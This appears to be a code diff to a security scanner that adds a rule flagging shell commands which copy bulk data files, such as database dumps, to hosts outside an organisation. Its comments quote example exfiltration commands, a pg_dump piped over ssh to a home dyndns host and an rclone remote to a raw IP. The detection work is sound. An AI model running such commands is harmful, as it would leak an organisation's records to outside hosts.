@@ -9,6 +9,7 @@
 // (`pg_dump … | ssh me@home.dyndns.org 'cat > d'`, read in shell-commands.ts and shell.ts).
 
 import { bulkDataFile } from './bulk-data-files.ts';
+import { outsideDestination } from './outside-destinations.ts';
 import { quote } from './findings.ts';
 import {
   bucketOf,
@@ -217,7 +218,7 @@ export function foreignCopyRule(c: RuleContext): void {
         ? 'storage account reached with a personal profile'
         : sharingBucket(destination)
       : foreignTarget(destination, sources, personal);
-  if (foreign === undefined) return;
+  if (foreign === undefined) return bulkToOutsideHost(c, parsed, sources, destination);
   const recursive = hasFlag(parsed, 'r', 'R', 'a', '--recursive', '--archive') || c.name === 'rclone';
   for (const source of sources) {
     const why = dataIn(source, recursive);
@@ -230,3 +231,25 @@ export function foreignCopyRule(c: RuleContext): void {
     return;
   }
 }
+
+/** rclone's inline remote (`:sftp,host=45.33.12.9,user=x:/dump/`) written as the host it names. */
+function inlineRemoteHost(destination: string): string {
+  const host = /^:\w+,(?:[^:]*,)?host=([\w.-]+)/.exec(destination)?.[1];
+  return host === undefined ? destination : `${host}:`;
+}
+
+/** Records in bulk copied to a named host that is not the organisation's own (`outside-destinations.ts`). */
+function bulkToOutsideHost(c: RuleContext, parsed: ReturnType<typeof parseOptions>, sources: readonly string[], destination: string): void {
+  const target = inlineRemoteHost(destination);
+  const bulk = sources.find((source) => bulkDataFile(source.replace(/^[\w.-]+@[\w.-]+:/, '')) !== undefined);
+  if (bulk === undefined || bucketOf(target) !== undefined) return;
+  const outside = foreignDestination(target) ?? outsideDestination(target, NO_OWN_DOMAINS);
+  if (outside === undefined) return;
+  const dryRun = hasFlag(parsed, '--dry-run', '--dryrun') || (c.name === 'rsync' && hasFlag(parsed, 'n'));
+  c.scan.add(
+    dryRun ? 'high' : 'critical',
+    `shell: copies ${bulkDataFile(bulk.replace(/^[\w.-]+@[\w.-]+:/, ''))} ${quote(bulk)} to a ${outside} ${quote(destination)} (${c.name})${dryRun ? ', as a dry run' : ''}`,
+  );
+}
+
+const NO_OWN_DOMAINS: ReadonlySet<string> = new Set();
